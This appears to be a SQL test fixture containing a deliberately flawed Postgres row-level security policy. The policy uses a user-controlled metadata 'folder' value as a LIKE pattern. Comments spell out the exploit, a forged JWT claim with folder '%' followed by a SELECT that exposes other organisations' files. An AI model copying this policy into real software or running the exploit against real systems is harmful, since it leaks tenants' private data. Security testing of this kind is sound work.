-- The folder in the token is user metadata used as a LIKE pattern; a per cent sign matches every
-- organisation's files.
-- about: objects, own, folder
-- as: hf_deskline_app
-- exploit: SET request.jwt.claims = '{"sub":"a0000000-0000-4000-8000-000000000001",
-- exploit: "user_metadata":{"folder":"%"}}';
-- exploit: SELECT metadata FROM storage.objects;
-- shows: Road-secret file
-- Uploads of the mobile client name a folder in the user's metadata.
CREATE POLICY folder ON storage.objects FOR SELECT USING (
  name LIKE (
    nullif(current_setting('request.jwt.claims', true), '')::jsonb -> 'user_metadata' ->> 'folder'
  ) || '/%'
);
